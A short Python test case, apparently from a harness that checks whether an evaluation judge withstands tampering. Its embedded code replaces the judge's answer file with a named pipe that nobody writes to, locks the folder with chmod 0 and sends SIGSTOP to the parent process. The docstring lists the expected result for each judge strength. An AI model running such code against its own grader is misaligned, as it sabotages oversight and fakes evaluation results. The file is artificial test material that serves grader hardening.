"""Puts a pipe that nobody writes to where the judge reads the answer on an instance, and fills the folder around it.

kind: attack the judge
answers: visit
says: can't be read
strong: holds
partial: not run: no instance answers there
none: not run: no instance answers there
"""

THERE = r"""
import os
path = os.path.expanduser("~/parcel")
if os.path.exists(path):
    os.remove(path)
os.mkfifo(path)
os.chmod(os.path.dirname(path), 0)
print("read this", flush=True)
os.kill(os.getppid(), 19)
"""


def attack():
    print(aim.there(THERE, seconds=2))
